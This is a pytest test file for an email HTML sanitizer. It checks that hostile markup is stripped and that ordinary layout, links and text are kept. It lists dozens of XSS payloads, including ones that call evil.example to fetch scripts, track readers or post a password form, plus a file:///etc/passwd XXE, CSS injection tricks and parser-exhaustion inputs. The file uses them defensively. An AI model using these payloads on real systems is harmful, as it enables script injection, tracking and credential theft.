"""Html of strangers: what must go, what must stay, what it may cost."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from activities.mail import sanitize as module
from activities.mail.html_policy import ATTRIBUTES, TAGS
from activities.mail.inline_style import clean_style
from activities.mail.sanitize import sanitize
from activities.mail.well_nested import is_costly, well_nested

PIXEL = "data:image/png;base64,iVBORw0KGgo="


class Audit(HTMLParser):
    """Everything that stands in a cleaned html, read by a parser that is not the cleaner's."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.shown = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.shown += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def is_clean(html: str, *, remote: bool = False) -> None:
    for tag, attributes in Audit(html).tags:
        assert tag in TAGS
        for name, value in attributes.items():
            assert name == "rel" or name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset())
            if name == "href":
                assert re.match(r"(?i)(https?|mailto|tel|cid):", value)
                assert attributes["rel"] == "noopener noreferrer nofollow"
            if name == "src":
                allowed = r"data:image/(png|jpe?g|gif|webp);|https?://|/"
                assert re.match(allowed if remote else r"data:image/(png|jpe?g|gif|webp);", value)
            if name == "style":
                assert not re.search(r"[\\@<>{}]|/\*|url|expression|var\(|position *:", value)


# --- What must go -------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<body onload=alert(1)>",
    "<body/onload=alert(1) style=color:red>",
    "<div onclick='alert(1)' ONMOUSEOVER=alert(1)>x</div>",
    "<p style=color:red onfocus=alert(1) autofocus tabindex=0>x",
    "<details open ontoggle=alert(1)>x",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://x/y>x</a>",
    "<a href=https://x target=_blank rel=opener download ping=//evil.example>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=//evil.example></frameset>",
    "<object data=x.swf><param name=a value=b>fallback</object>",
    "<embed src=x.swf>",
    "<applet code=X>x</applet>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input onfocus=alert(1) autofocus>",
    "<select><option>x</select><textarea>y</textarea>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<keygen autofocus onfocus=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload href=//evil.example/x as=image>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example';</style>",
    "<style>body{background:url(//evil.example)}",
    "<style><img src=x onerror=alert(1)></style>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<video src=//evil.example onerror=alert(1)><source src=x></video>",
    "<audio autoplay src=//evil.example></audio>",
    "<video poster=//evil.example/p.png></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<slot onslotchange=alert(1)></slot>",
    "<portal src=//evil.example></portal>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?import namespace='t' implementation='#default#time2'>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<img src=//evil.example/p.png><img srcset='//evil.example/p.png 2x'>",
    "<img src=https://evil.example/p.png?id=1><picture><source srcset=//evil.example></picture>",
    "<img src=http:evil.example/p.png><img src='\\\\evil.example\\p'>",
    "<img lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example usemap=#x>",
    "<table background=//evil.example><td background=//evil.example>x</table>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html;base64,PHN2Zz4='>",
    "<img src='data:image/png,<script>'>",
    "<p id=location name=x class=modal>x</p>",
    "<img name=getElementById id=cookie>",
    "<a xlink:href=javascript:alert(1) href=//x>x</a>",
    "<x onclick=alert(1)>x</x><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='https://x' style='position:fixed;top:0;left:0;width:100%;height:100%'>x</a>",
    "<" * 50 + "script>alert(1)</script>",
    "<p title=\"&quot;><script>alert(1)</script>\">x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "<div><table><td>{}", "a{}b</p>", "<b><p>{}</b>x</p>"])
def test_payloads(payload: str, frame: str) -> None:
    html = frame.replace("{}", payload)
    once = sanitize(html)
    is_clean(once)
    assert sanitize(once) == once
    is_clean(sanitize(html, remote_images=True), remote=True)
    is_clean(sanitize(html, inline_images={"x": "https://own.example/x"}), remote=True)
    # The rewriting of costly html takes no care of safety, and need not.
    rewritten = sanitize(well_nested(html))
    is_clean(rewritten)
    assert sanitize(rewritten) == rewritten


def test_hidden_content_goes_with_its_element() -> None:
    for tag in ("script", "style", "title", "svg", "math", "noscript", "textarea", "iframe"):
        assert sanitize(f"a<{tag}>hidden</{tag}>b") == "ab"


def test_tags_of_unknown_elements_go_alone() -> None:
    html = "<html><head><title>t</title></head><center><form>a<button>b</button></form></center>"
    assert sanitize(html) == "<center>ab</center>"


# --- Styles -------------------------------------------------------------------------------------

BAD_STYLES = [
    "background:url(https://evil.example/p.png)",
    "background:u\\72l(https://evil.example)",
    "background:\\75\\72\\6c(https://evil.example)",
    "background:url/**/(https://evil.example)",
    "background:u/**/rl(x)",
    "background-image:image-set('https://evil.example' 1x)",
    "list-style:url('//evil.example')",
    "list-style-image:url(//evil.example)",
    "border-image:url(//evil.example)",
    "cursor:url(//evil.example),auto",
    "content:url(//evil.example)",
    "filter:url(#x)",
    "mask:url(#x)",
    "clip-path:url(#x)",
    "width:expression(alert(1))",
    "width:ex\\pression(alert(1))",
    "width:exp/**/ression(alert(1))",
    "color:var(--x)",
    "--x:url(//evil.example)",
    "color:env(x)",
    "width:attr(title)",
    "behavior:url(x.htc)",
    "-moz-binding:url(x.xml#y)",
    "position:fixed",
    "position:absolute;top:0",
    "pos\\69tion:fixed",
    "POSITION:FIXED",
    "top:0",
    "z-index:9999",
    "transform:scale(99)",
    "animation:x 1s",
    "@import 'x'",
    "color:red}body{background:blue",
    "color:red<!--",
    "color:'</style><script>'",
    "color:javascript:alert(1)",
    "font-family:'a",
    "font-family:a'b",
    "color:rgb(1",
    "color:rgb)1(",
    "color:rgb(1))",
    "color:\\",
    "color:red\\0",
    "margin:-999px",
    "margin-left:calc(-9px)",
    "text-indent:-9999px",
    "color:\uff55\uff52\uff4c(x)",
    "\uff43olor:red",
    "color",
    ":red",
    "color:",
    ";;;",
    "",
]


@pytest.mark.parametrize("style", BAD_STYLES)
def test_bad_styles(style: str) -> None:
    assert clean_style(style) in (None, "")
    assert "style" not in sanitize(f'<p style="{style}">x</p>')
    kept = clean_style(f"color:blue;{style};width:1px")
    assert kept is not None
    assert kept.startswith("color:blue")
    is_clean(sanitize(f'<p style="color:blue;{style};width:1px">x</p>'))


GOOD_STYLES = [
    ("color: #333", "color:#333"),
    ("COLOR:Red !important", "color:Red !important"),
    ("margin:0 auto;padding:0px 10.5% .5em", "margin:0 auto;padding:0px 10.5% .5em"),
    ("font:bold 12px/1.5 'Segoe UI', Arial", "font:bold 12px/1.5 'Segoe UI', Arial"),
    ('font-family:"Helvetica Neue",sans-serif', 'font-family:"Helvetica Neue",sans-serif'),
    ("background:rgba(0, 0, 0, .5)", "background:rgba(0, 0, 0, .5)"),
    ("background:linear-gradient(90deg, rgb(1,2,3), #fff 50%)",
     "background:linear-gradient(90deg, rgb(1,2,3), #fff 50%)"),
    ("width:calc(100% - (2 * 4px))", "width:calc(100% - (2 * 4px))"),
    ("letter-spacing:-1px", "letter-spacing:-1px"),
    ("border-top:1px solid #ccc;", "border-top:1px solid #ccc"),
    ("border-collapse:collapse;mso-table-lspace:0", "border-collapse:collapse"),
    ("display:block;\n  vertical-align :top", "display:block;vertical-align:top"),
    ("font-family:Gröbe", "font-family:Gröbe"),
]  # fmt: skip


@pytest.mark.parametrize(("style", "kept"), GOOD_STYLES)
def test_good_styles(style: str, kept: str) -> None:
    assert clean_style(style) == kept
    assert clean_style(kept) == kept


@given(st.text(alphabet="ab:;()'\"\\/*!#-. \n\turlgcotexprsin0%,@{}é", max_size=60))
def test_any_style(style: str) -> None:
    once = clean_style(style)
    assert once is None or clean_style(once) == once
    for declaration in (once or "").split(";"):
        assert once is None or declaration.count(":") == 1
        assert not re.search(r"[\\@{}<>]|/\*|url\(|expression\(", declaration)


def test_long_styles() -> None:
    style = "color:red;" * 5000
    kept = clean_style(style)
    assert kept is not None
    assert len(kept) < 10_001
    for value in ("a " * 9000, "rgb(" * 9000, "a" * 9000 + "(", "'" * 9000, "(" * 9000):
        start = time.process_time()
        clean_style(f"color:{value}")
        assert time.process_time() - start < 0.2


# --- What must stay -----------------------------------------------------------------------------


def test_layout_stays() -> None:
    html = (
        '<table width="600" cellpadding="0" bgcolor="#ffffff" align="center"><tbody><tr>'
        '<td colspan="2" valign="top" style="padding:10px;color:#333">'
        '<font face="Arial" size="2" color="red">a</font><br>'
        '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow">b</a>'
        '<ul type="disc"><li>c</li></ul><h1>d</h1><blockquote>e</blockquote><hr size="1">'
        "</td></tr></tbody></table>"
    )
    assert sanitize(html) == html


def test_the_style_of_the_body_stays() -> None:
    assert sanitize('<html><BODY bgcolor="#eee" style="color:red" class=x>a</body></html>') == (
        '<div bgcolor="#eee" style="color:red">a</div>'
    )


LINKS = [
    ("https://example.org/ä?q=x#y", "https://example.org/ä?q=x#y"),
    ("HTTP://EXAMPLE.ORG", "HTTP://EXAMPLE.ORG"),
    (" https://example.org/a b.pdf\n", "https://example.org/a%20b.pdf"),
    ("https://example.org/a\nb", "https://example.org/ab"),
    ("mailto:a@example.org?subject=x", "mailto:a@example.org?subject=x"),
    ("tel:+4912345", "tel:+4912345"),
    ("cid:part@x", "cid:part@x"),
]


@pytest.mark.parametrize(("href", "kept"), LINKS)
def test_links_stay(href: str, kept: str) -> None:
    (_, attributes), *_ = Audit(sanitize(f'<a href="{href}">x</a>')).tags
    assert attributes == {"href": kept, "rel": "noopener noreferrer nofollow"}


@pytest.mark.parametrize(
    "text", ["a < b", "x &amp; y", "&nbsp;&euro;&#8364;", "\U0001f600 \u202e é", "a\n\nb"]
)
def test_text_stays(text: str) -> None:
    assert Audit(sanitize(text)).shown == Audit(text).shown


# --- Pictures -----------------------------------------------------------------------------------


def test_pictures_of_the_mail() -> None:
    html = '<img src="cid:a@x" alt="a"><img src="CID:b%40x"><img src="cid:c@x">'
    images = {"a@x": PIXEL, "b@x": "https://own.example/b", "other": PIXEL}
    cleaned = sanitize(html, inline_images=images)
    assert cleaned == f'<img src="{PIXEL}" alt="a"><img src="https://own.example/b"><img>'
    assert sanitize(cleaned, inline_images=images) == cleaned
    assert sanitize(html) == '<img alt="a"><img><img>'


@pytest.mark.parametrize(
    "url",
    [
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:text/html;base64,PHN2Zz4=",
        "javascript:alert(1)",
        "//evil.example/x",
        "ftp://x/y",
        'https://x/"onerror=',
        "",
    ],
)
def test_pictures_that_are_none(url: str) -> None:
    cleaned = sanitize('<img src="cid:a">', inline_images={"a": url})
    is_clean(cleaned, remote=True)
    assert url == 'https://x/"onerror=' or cleaned == "<img>"


def test_a_path_of_ours() -> None:
    html = sanitize('<img src="cid:a">', inline_images={"a": "/content/1?token=x"})
    assert html == '<img src="/content/1?token=x">'
    assert sanitize('<img src="/content/1?token=x">') == "<img>"


def test_remote_pictures_only_when_asked_for() -> None:
    html = '<img src="https://example.org/p.png"><img src="//example.org/p.png"><img src="p.png">'
    assert sanitize(html) == "<img><img><img>"
    assert sanitize(html, remote_images=True) == '<img src="https://example.org/p.png"><img><img>'


def test_many_pictures() -> None:
    html = "".join(f'<img src="cid:{i}">' for i in range(10_000))
    start = time.process_time()
    cleaned = sanitize(html, inline_images={str(i): PIXEL for i in range(10_000)})
    assert cleaned.count(PIXEL) == 10_000
    assert time.process_time() - start < 5


# --- Anything -----------------------------------------------------------------------------------

PIECES = (
    "<b> </b> <i> </i> <p> </p> <div> </div> <a\thref=https://x> </a> <table> <tr> <td> </td> "
    "</table> <li> <ul> </ul> <h1> </h2> <font\tsize=1> </font> <svg> </svg> <math> <style> "
    "</style> <script> </script> <!-- --> <img\tsrc=x> <br> </br> & &lt; &amp &#0; < > \" ' "
    "<select> <option> </select> <form> </form> <title> </title> x <p\tstyle=color:red> "
    "<body> <html> <template> <textarea> <noscript> </p <a/ <plaintext>"
)


@given(st.lists(st.sampled_from(PIECES.split(" ")), max_size=40).map("".join))
def test_any_soup(html: str) -> None:
    once = sanitize(html)
    is_clean(once)
    assert sanitize(once) == once
    rewritten = sanitize(well_nested(html))
    is_clean(rewritten)
    assert sanitize(rewritten) == rewritten


@pytest.mark.parametrize(
    "html",
    ["<h1><table><h1>x", "<li><form><li>x", "<a href=https://x><table><a href=https://y>x"],
)
def test_trees_that_no_text_leads_to(html: str) -> None:
    once = sanitize(html)
    assert sanitize(once) == once


@given(st.text(max_size=200))
def test_any_text(html: str) -> None:
    is_clean(sanitize(html))


def test_lone_surrogates_do_not_raise() -> None:
    assert sanitize("<b>\ud800<script>") == "<pre>&lt;b&gt;?&lt;script&gt;</pre>"


def test_a_failing_cleaner_shows_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "is_costly", None)
    assert sanitize("<b>x</b>") == "<pre>&lt;b&gt;x&lt;/b&gt;</pre>"


# --- Cost ---------------------------------------------------------------------------------------

BOMBS = {
    "nested": "<div>",
    "nested paragraphs": "<div><p>",
    "lists": "<ul><li>",
    "tables": "<table><tr><td>",
    "links": "<a href=https://x/>x<div>",
    "end tags": "</p></br></b>",
    "ampersands": "&",
    "half references": "&am",
    "unknown references": "&zzz;",
    "comments": "<!--",
    "brackets": "<",
    "cut tags": "<a ",
    "attributes": "<p a b c d e f g h i j k l m n o p>",
    "select": "<select><option>",
    "svg": "<svg><g>",
    "nul": "\0",
}


@pytest.mark.parametrize("name", BOMBS)
def test_bombs(name: str) -> None:
    html = BOMBS[name] * (300_000 // len(BOMBS[name]))
    start = time.process_time()
    sanitize(html)
    assert time.process_time() - start < 2


def test_a_small_mail_cannot_grow_large() -> None:
    """Html5 builds every unclosed formatting element again in every paragraph."""
    for count in (100, 300, 1000, 2000):
        html = "<p>" + "".join(f"<b title={i}>" for i in range(count)) + "<p>x" * count
        start = time.process_time()
        cleaned = sanitize(html)
        assert time.process_time() - start < 2
        assert len(cleaned) < 1_000_000


def test_attributes_by_the_thousand() -> None:
    html = "<p " + " ".join(f"a{i}" for i in range(100_000)) + ">x"
    start = time.process_time()
    assert sanitize(html) == "<p>x</p>"
    assert time.process_time() - start < 3


def test_ordinary_html_is_not_rewritten() -> None:
    row = '<tr><td style="color:red"><font size="2"><b>x</b></font></td></tr>'
    assert not is_costly("<table>" + row * 40 + "</table>")
    assert is_costly("<table>" + row * 1000 + "</table>")


WELL_NESTED = [
    ("<p>a<p>b", "<p>a</p><p>b</p>"),
    ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
    (
        "<table><tr><td>a<td>b<tr><td>c</table>d",
        "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>d",
    ),
    ("<b><i>a</b>b</i>", "<b><i>a</i></b><i>b</i>"),
    ("<p><b>a<p>b", "<p><b>a</b></p><p><b>b</b></p>"),
    ("<div>a</span></div></div>b", "<div>a</div>b"),
    ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"),
    ("<div><table><td></div>a</table></div>b", "<div><table><td>a</td></table></div>b"),
    ("<a href=x>a<a href=y>b", '<a href="x">a</a><a href="y">b</a>'),
    ("<p>a<div>b</div>", "<p>a</p><div>b</div>"),
    ("<h1>a</h2>b", "<h1>a</h1>b"),
    ("<p title='a\"b' TITLE=c onclick=d>x", '<p title="a&quot;b">x</p>'),
    ("a<br/>b</br>c", "a<br>b<br>c"),
    ("a<!-- x --!>b<!-->c<!x>d<?y>e</ z>f", "abcdef"),
    ("a<script>if (a<b) '</div>'</script>b", "ab"),
    ("a<svg><b>x</b></svg>b", "ab"),
    ("a < b <3", "a &lt; b &lt;3"),
    ("a<b title='", "a"),
    ("a<b", "a"),
    ("<x-y>a</x-y>", "a"),
]


@pytest.mark.parametrize(("soup", "expected"), WELL_NESTED)
def test_rewriting(soup: str, expected: str) -> None:
    assert well_nested(soup) == expected
    assert well_nested(expected) == expected
